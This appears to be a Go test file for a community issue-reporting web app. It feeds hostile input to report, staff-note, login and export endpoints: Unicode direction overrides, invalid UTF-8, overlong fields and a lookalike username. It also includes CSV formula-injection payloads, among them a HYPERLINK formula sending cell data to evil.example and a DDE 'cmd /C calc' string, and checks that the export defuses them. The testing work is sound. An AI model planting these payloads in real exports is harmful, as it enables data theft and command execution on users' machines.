package server_test

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"gridline/report"
)

// textCases carry Unicode tricks and overlong values in the fields people
// type. Invisible characters are stripped before anything is stored.
func textCases() []hostileCase {
	return slices.Concat(typedTextCases(), invisibleTextCases(), overlongTextCases())
}

// typedTextCases hide direction overrides and spreadsheet formulas in what
// people type.
func typedTextCases() []hostileCase {
	return []hostileCase{
		{name: "RTL override and zero-width characters are stripped", status: http.StatusSeeOther, effect: oneReport,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("description", "路灯\u202e不亮\u200b了一周\u2066，\u200d请尽快\ufeff处理")
				v.Set("name", "\u202e生先魏")
				v.Set("location", "3\u200b号\u200c楼\u2060")
				return w.reportPost(v)
			}, want: func(t *testing.T, _ *hostileWorld, _ *httptest.ResponseRecorder, r report.Report) {
				if r.Description != "路灯不亮了一周，请尽快处理" || r.Contact.Name != "生先魏" || r.Location != "3号楼" {
					t.Errorf("stored %q / %q / %q", r.Description, r.Contact.Name, r.Location)
				}
			}},
		{name: "spreadsheet formulas are stored as typed and defused in the export", status: http.StatusSeeOther, effect: oneReport,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("description", `=HYPERLINK("https://evil.example/?"&H2,"点击查看")`)
				v.Set("name", `@SUM(1+1)*cmd|' /C calc'!A0`)
				v.Set("location", "+1-1")
				return w.reportPost(v)
			}, want: func(t *testing.T, w *hostileWorld, _ *httptest.ResponseRecorder, r report.Report) {
				if !strings.HasPrefix(r.Description, "=HYPERLINK") {
					t.Errorf("stored %q", r.Description)
				}
				csv := w.app.do(staffGet(w.admin, "/admin/export.csv")).Body.String()
				for _, cell := range []string{"=HYPERLINK", "@SUM", "+1-1"} {
					if !strings.Contains(csv, "'"+cell) || strings.Contains(csv, ","+cell) || strings.Contains(csv, `,"`+cell) {
						t.Errorf("the export does not defuse %s", cell)
					}
				}
			}},
	}
}

// invisibleTextCases send invisible characters and invalid UTF-8.
func invisibleTextCases() []hostileCase {
	refused := http.StatusUnprocessableEntity
	return []hostileCase{
		{name: "a description of invisible characters only", status: refused,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("description", strings.Repeat("\u200b\u202e\u2066", 10))
				return w.reportPost(v)
			}},
		{name: "invalid UTF-8 is stored as valid UTF-8", status: http.StatusSeeOther, effect: oneReport,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("description", "\xff\xfe路灯不亮了\xc0")
				return w.reportPost(v)
			}, want: func(t *testing.T, _ *hostileWorld, _ *httptest.ResponseRecorder, r report.Report) {
				if !utf8.ValidString(r.Description) || !strings.Contains(r.Description, "路灯不亮了") {
					t.Errorf("stored %q", r.Description)
				}
			}},
		{name: "a username that is an existing one with a zero-width space", status: refused,
			req: func(w *hostileWorld) *http.Request {
				return staffPost(w.admin, "/admin/users", url.Values{
					"username": {"bo\u200bss"}, "role": {"admin"}, "password": {"correct horse battery staple"},
				})
			}},
		{name: "a staff note's RTL override is stripped", status: http.StatusSeeOther, effect: oneNote,
			req: func(w *hostileWorld) *http.Request {
				return staffPost(w.op, "/admin/reports/"+w.open.ID+"/note", url.Values{"internal": {"已联系\u202e物业\u200b"}})
			}, want: func(t *testing.T, w *hostileWorld, _ *httptest.ResponseRecorder, _ report.Report) {
				r := w.app.storedReport(w.open.ID)
				if got := r.Timeline[len(r.Timeline)-1].InternalNote; got != "已联系物业" {
					t.Errorf("stored note %q", got)
				}
			}},
	}
}

// overlongTextCases send values over the limits of their fields.
func overlongTextCases() []hostileCase {
	refused := http.StatusUnprocessableEntity
	long := func(n int) string { return strings.Repeat("灯", n) }
	return []hostileCase{
		{name: "description one character over 1000", status: refused,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("description", long(1001))
				return w.reportPost(v)
			}},
		{name: "description of 1 MB", status: refused,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("description", strings.Repeat("x", 1<<20))
				return w.reportPost(v)
			}},
		{name: "location and name over their limits", status: refused,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("location", long(101))
				v.Set("name", long(31))
				return w.reportPost(v)
			}},
		{name: "category of 20 KB", status: refused,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("category", strings.Repeat("市容环境", 2000))
				return w.reportPost(v)
			}},
		{name: "urlencoded report of 100 KB", status: http.StatusRequestEntityTooLarge,
			req: func(w *hostileWorld) *http.Request {
				v := w.fields()
				v.Set("description", strings.Repeat("x", 100<<10))
				return urlencoded("/c/"+w.a.Code, v)
			}},
		{name: "staff note over 500 characters", status: refused,
			req: func(w *hostileWorld) *http.Request {
				return staffPost(w.op, "/admin/reports/"+w.open.ID+"/note", url.Values{"public": {long(501)}})
			}},
		{name: "rating comment over 200 characters", status: refused,
			req: func(w *hostileWorld) *http.Request {
				return urlencoded("/t/"+w.resolved.ID+"/rate", url.Values{"rating": {"unsatisfied"}, "comment": {long(201)}})
			}},
		{name: "community name over 40 characters", status: refused,
			req: func(w *hostileWorld) *http.Request {
				return staffPost(w.admin, "/admin/communities", url.Values{"name": {long(41)}, "street": {"北山口镇"}})
			}},
		{name: "sign-in username of 10 KB", status: http.StatusUnauthorized,
			req: func(w *hostileWorld) *http.Request {
				return w.loginPost(url.Values{"username": {strings.Repeat("a", 10<<10)}, "password": {"x"}})
			}},
		{name: "look-up code of 5000 characters", status: refused, req: plainGet("/track?code=" + strings.Repeat("7", 5000))},
	}
}
